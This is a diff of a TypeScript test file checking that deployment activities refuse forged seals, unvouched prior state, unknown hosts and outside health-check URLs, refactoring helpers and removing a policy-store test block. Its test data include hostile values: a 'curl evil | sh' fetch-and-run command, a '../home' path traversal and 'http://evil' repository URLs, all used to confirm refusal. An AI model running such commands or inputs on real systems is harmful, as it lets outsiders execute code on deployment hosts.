@@ -1,27 +1,21 @@
 /** What activities refuse before they touch anything, whoever asks: each row is a word changed by somebody who can write to Temporal. */
 import { beforeAll, describe, expect, test } from 'vitest';
 import { AUTHORITIES } from '../../../activities/trust/authority.js';
-import type { PolicyStore } from '../../../activities/trust/policy-store.js';
 import { withHash } from '../../../pipeline/hash-plan.js';
 import type { Colour, Seal } from '../../../pipeline/plan.js';
 import type { Target } from '../../../workflows/activity-contract.js';
 import { CHANGES_THE_WORLD } from '../../../workflows/activity-options.js';
-import type { PriorState } from '../../../workflows/result.js';
 import { givenArtifacts } from '../../support/given.js';
-import { givenPolicyStore } from '../../support/policies.js';
 import {
-  beginsWith,
   evidenceOf,
-  gateInput,
+  gateSaid,
   givenSealedRelease,
-  refusalWith,
-  throughVouching,
-  useSealKeys,
   type Name,
   type SealedRelease,
 } from '../../support/sealed.js';
+import { inputOf, OF_A_TARGET, useVouchingWorker } from '../../support/vouching-worker.js';
 
-const keys = useSealKeys();
+const { keys, begins, refusal } = useVouchingWorker();
 let release: SealedRelease;
 let forged: SealedRelease;
 let stage: SealedRelease;
@@ -36,34 +30,8 @@ beforeAll(async () => {
   ofAnotherPipeline = await givenSealedRelease(keys.ours, { pipeline: 'other' });
 });
 
-interface Words {
-  target: Target;
-  prior: PriorState[];
-}
-
-/** The activity's input, made of a target and what was there before. */
-const INPUTS: Partial<Record<Name, (words: Words) => unknown>> = {
-  preflight: ({ target }) => ({ target }),
-  claim: ({ target }) => ({ target }),
-  proveWayBack: ({ target }) => ({ target }),
-  deploy: ({ target, prior }) => ({ target, prior }),
-  verify: ({ target }) => ({ target, checks: release.environment.checks, colour: target.colour }),
-  measureBaseline: ({ target }) => ({ target }),
-  bake: ({ target }) => ({ target, colour: target.colour, baseline: {}, remainingMs: 1 }),
-  tagArtifacts: ({ target }) => ({ target }),
-  retireColour: ({ target }) => ({ target, colour: 'blue' }),
-  switchTraffic: ({ target }) => ({ target, to: 'green', from: 'blue', requireHealthy: true }),
-  undoDeploy: ({ target, prior }) => ({ target, prior }),
-  takeOver: ({ target }) => ({ target }),
-};
-const OF_A_TARGET = Object.keys(INPUTS) as Name[];
-const WAY_BACK_NAMES: Name[] = ['claim', 'undoDeploy', 'takeOver', 'retireColour'];
+type Words = Pick<SealedRelease, 'target' | 'prior'>;
 const WITH_PRIOR: Name[] = ['deploy', 'undoDeploy'];
-
-const call = (name: Name, input: unknown, policy?: PolicyStore): Promise<boolean> =>
-  beginsWith(keys.ours, name, input, policy);
-const refusalOf = (name: Name, input: unknown, policy?: PolicyStore): Promise<string> =>
-  refusalWith(keys.ours, name, input, policy);
 
 const words = (change: Partial<Target> = {}, prior = release.prior): Words => ({
   target: { ...release.target, ...change },
@@ -84,9 +52,9 @@ describe('activities that change the world', () => {
   });
 
   test.each(OF_A_TARGET)('%s begins with what workers sealed', async (name) => {
-    expect(await call(name, INPUTS[name]?.(words()))).toBe(true);
+    expect(await begins(name, inputOf(name, words()))).toBe(true);
     const live = { ...earlier.target, colour: 'blue' as const, at: '', by: 'oleg' };
-    expect(await call(name, INPUTS[name]?.(words({ live })))).toBe(true);
+    expect(await begins(name, inputOf(name, words({ live })))).toBe(true);
   });
 
   const ATTACKS: [string, () => Partial<Target>, RegExp][] = [
@@ -204,7 +172,7 @@ describe('activities that change the world', () => {
   ];
   describe.each(ATTACKS)('with %s', (_what, change, reason) => {
     test.each(OF_A_TARGET)('%s refuses', async (name) => {
-      expect(await refusalOf(name, INPUTS[name]?.(words(change())))).toMatch(reason);
+      expect(await refusal(name, inputOf(name, words(change())))).toMatch(reason);
     });
   });
 
@@ -218,27 +186,19 @@ describe('activities that change the world', () => {
   ];
   describe.each(GATES)('with %s', (_what, change, reason) => {
     test.each(OF_A_TARGET)('%s refuses', async (name) => {
-      expect(await refusalOf(name, INPUTS[name]?.(words(change())))).toMatch(reason);
+      expect(await refusal(name, inputOf(name, words(change())))).toMatch(reason);
     });
   });
 
   test.each(OF_A_TARGET)('%s refuses a gate that failed, also after it had passed', async (name) => {
-    const said = async (verdict: 'pass' | 'fail', at: string) =>
-      await throughVouching(
-        keys.ours,
-        'runGate',
-        gateInput(release.plan, release.environment, release.artifacts),
-        () => evidenceOf(verdict, at),
-      );
-    const failed = await said('fail', '2026-11-14T11:00:00.000Z');
-    const passed = await said('pass', '2026-11-14T10:00:00.000Z');
-    expect(await refusalOf(name, INPUTS[name]?.(words({ evidence: [failed, passed] })))).toMatch(
+    const failed = await gateSaid(keys.ours, release, 'fail', '2026-11-14T11:00:00.000Z');
+    const passed = await gateSaid(keys.ours, release, 'pass', '2026-11-14T10:00:00.000Z');
+    expect(await refusal(name, inputOf(name, words({ evidence: [failed, passed] })))).toMatch(
       /gate ci said fail/,
     );
   });
 
   test.each(WITH_PRIOR)('%s brings back only what a worker found', async (name) => {
-    const input = INPUTS[name];
     const evil = release.prior.map((state) => ({
       ...state,
       platform: { kind: 'command', inspected: 'evil' },
@@ -252,7 +212,7 @@ describe('activities that change the world', () => {
       [forged.prior, {}],
       [release.prior, later],
     ] as const)
-      expect(await refusalOf(name, input?.(words(change, prior)))).toMatch(
+      expect(await refusal(name, inputOf(name, words(change, prior)))).toMatch(
         /what was there before is not vouched for/,
       );
   });
@@ -263,21 +223,21 @@ describe('activities that change the world', () => {
     if (first === undefined || second === undefined || traffic === null)
       throw new Error('two hosts and a proxy');
     const plan = { ...release.environment, hosts: [second], traffic: { ...traffic, host: first } };
-    expect(await call('deploy', INPUTS.deploy?.(words({ plan, whole: { hosts, traffic } })))).toBe(true);
+    expect(await begins('deploy', inputOf('deploy', words({ plan, whole: { hosts, traffic } })))).toBe(true);
     const moved = { ...plan, traffic: { ...traffic, host: second } };
     expect(
-      await refusalOf('deploy', INPUTS.deploy?.(words({ plan: moved, whole: { hosts, traffic } }))),
+      await refusal('deploy', inputOf('deploy', words({ plan: moved, whole: { hosts, traffic } }))),
     ).toMatch(/traffic is not that/);
     const more = { ...plan, hosts: [second, { name: 'evil', address: 'evil' }] };
     expect(
-      await refusalOf('deploy', INPUTS.deploy?.(words({ plan: more, whole: { hosts, traffic } }))),
+      await refusal('deploy', inputOf('deploy', words({ plan: more, whole: { hosts, traffic } }))),
     ).toMatch(/no such host/);
   });
 
   test('a check of somebody’s own is not run', async () => {
     const [check] = release.environment.checks;
     const checks = [{ ...check, url: 'http://evil.example.com' }];
-    expect(await refusalOf('verify', { target: release.target, checks, colour: null })).toMatch(
+    expect(await refusal('verify', { target: release.target, checks, colour: null })).toMatch(
       /no check health like this one/,
     );
   });
@@ -289,105 +249,16 @@ describe('activities that change the world', () => {
     ['retireColour', ({ target }) => ({ target, colour: 'blue' })],
   ];
   test.each(WAY_BACK)('%s, on the way back, is for what was let in once', async (name, input) => {
-    expect(await call(name, input(words()))).toBe(true);
-    expect(await refusalOf(name, input(words({ evidence: [] })))).toMatch(/nobody vouches that gate ci/);
+    expect(await begins(name, input(words()))).toBe(true);
+    expect(await refusal(name, input(words({ evidence: [] })))).toMatch(/nobody vouches that gate ci/);
   });
 
   test.each([null, 7, {}, { target: null }, { target: { plan: { seal: 7 } } }])(
     'what is no input at all (%j) is refused',
     async (input) => {
-      expect(await refusalOf('deploy', input)).toMatch(/malformed|not genuine/);
+      expect(await refusal('deploy', input)).toMatch(/malformed|not genuine/);
     },
   );
-});
-
-describe('the policy of the moment', () => {
-  test('runs and resolves nothing that only a stranger names, to look', async () => {
-    const doctor = { what: 'doctor', step: null, host: null, lines: 1, live: null };
-    const look = (change: Partial<Target['plan']>, what = 'doctor') => ({
-      ...doctor,
-      what,
-      plan: {
-        ...without(release.environment),
-        platform: { kind: 'swarm', service: 'shop', fields: {} },
-        traffic: null,
-        ...change,
-      },
-    });
-    const ask = (input: unknown) => refusalOf('inspectEnvironment', input, policyOf());
-    const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
-    const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
-    expect(await ask(look({ platform }))).toMatch(/command id is not allowed/);
-    expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
-    expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
-    expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
-    const live = { ...release.target, colour: '../home' as Colour, at: '', by: 'x' };
-    expect(await ask({ ...look({}), live })).toMatch(/no such colour/);
-    expect(await ask({ ...look({}), live: { ...live, version: 'v2' } })).toMatch(/is of v1\.0\.0/);
-    expect(await call('inspectEnvironment', look({}), policyOf())).toBe(true);
-  });
-
-  test('refuses what was planned before there was one, with its word for who approved', async () => {
-    const before = await givenSealedRelease(keys.ours);
-    const { target, prior } = before;
-    expect(await refusalOf('deploy', { target, prior }, policyOf())).toMatch(/has become stricter/);
-    expect(await call('undoDeploy', { target, prior }, policyOf())).toBe(true);
-  });
-
-  const back = WAY_BACK_NAMES;
-  const stricter: [string, string, RegExp][] = [
-    ['more approvals', 'approvals: [{count: 1, by: unverified}]', /policy has become stricter/],
-    ['other hosts', 'hosts: [deploy@web-1]', /host deploy@web-2 is not allowed/],
-    ['other refs', 'from: {branch: main}', /tag v1\.0\.0 is not allowed/],
-    ['a longer wait', 'wait: 1h', /policy has become stricter/],
-  ];
-  describe.each(stricter)('with %s', (_what, line, reason) => {
-    test.each(OF_A_TARGET.filter((name) => !back.includes(name)))('%s refuses', async (name) => {
-      expect(await refusalOf(name, INPUTS[name]?.(words()), policyOf(line))).toMatch(reason);
-    });
-
-    test.each(back)('%s still goes back', async (name) => {
-      expect(await call(name, INPUTS[name]?.(words()), policyOf(line))).toBe(true);
-    });
-  });
-
-  test('allows what it allowed when it was planned', async () => {
-    expect(await call('deploy', INPUTS.deploy?.(words()), policyOf())).toBe(true);
-  });
-
-  test('keeps looks and fetches to what it names', async () => {
-    const plan = release.environment;
-    const look = { what: 'doctor', plan, step: null, host: null, lines: 1, live: null };
-    expect(await call('inspectEnvironment', look, policyOf())).toBe(true);
-    expect(await call('inspectEnvironment', look)).toBe(true);
-    const unsealed = (change: Partial<Target['plan']>, what = 'doctor') => ({
-      ...look,
-      what,
-      plan: { ...without(plan), ...change },
-    });
-    const evil = unsealed({ hosts: [{ name: 'evil', address: 'evil' }] });
-    expect(await refusalOf('inspectEnvironment', evil, policyOf())).toMatch(/host evil is not allowed/);
-    const strange = unsealed({ name: 'prod2' });
-    expect(await refusalOf('inspectEnvironment', strange, policyOf())).toMatch(/no such environment/);
-    const asked = { commit: 'a'.repeat(40), candidates: [] };
-    expect(await call('listAncestors', { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
-    expect(await refusalOf('listAncestors', { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
-      /does not allow it/,
-    );
-    for (const name of ['recordDeployment', 'setCommitStatus', 'commentOnPullRequest'] as const) {
-      expect(await call(name, { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
-      expect(await refusalOf(name, { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
-        /does not allow it/,
-      );
-    }
-  });
-
-  test('refuses production where the policy was taken away', async () => {
-    const gone: PolicyStore = { read: async () => null, isDemo: false };
-    expect(await refusalOf('deploy', INPUTS.deploy?.(words()), gone)).toMatch(
-      /is production, and this worker has no policy/,
-    );
-  });
 });
 
 function sealOf({ environment: { seal } }: SealedRelease): Seal {
@@ -407,11 +278,4 @@ function reworded(): Seal {
 
 function pick(seal: Seal | undefined): { seal?: Seal } {
   return seal === undefined ? {} : { seal };
-}
-
-/** One that allows the release as it was planned, but for one line. */
-function policyOf(line = ''): PolicyStore {
-  const hosts = line.startsWith('hosts:') ? '' : 'hosts: [deploy@web-1, deploy@web-2], ';
-  const text = `pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {${hosts}${line}}}}}`;
-  return givenPolicyStore(text);
 }
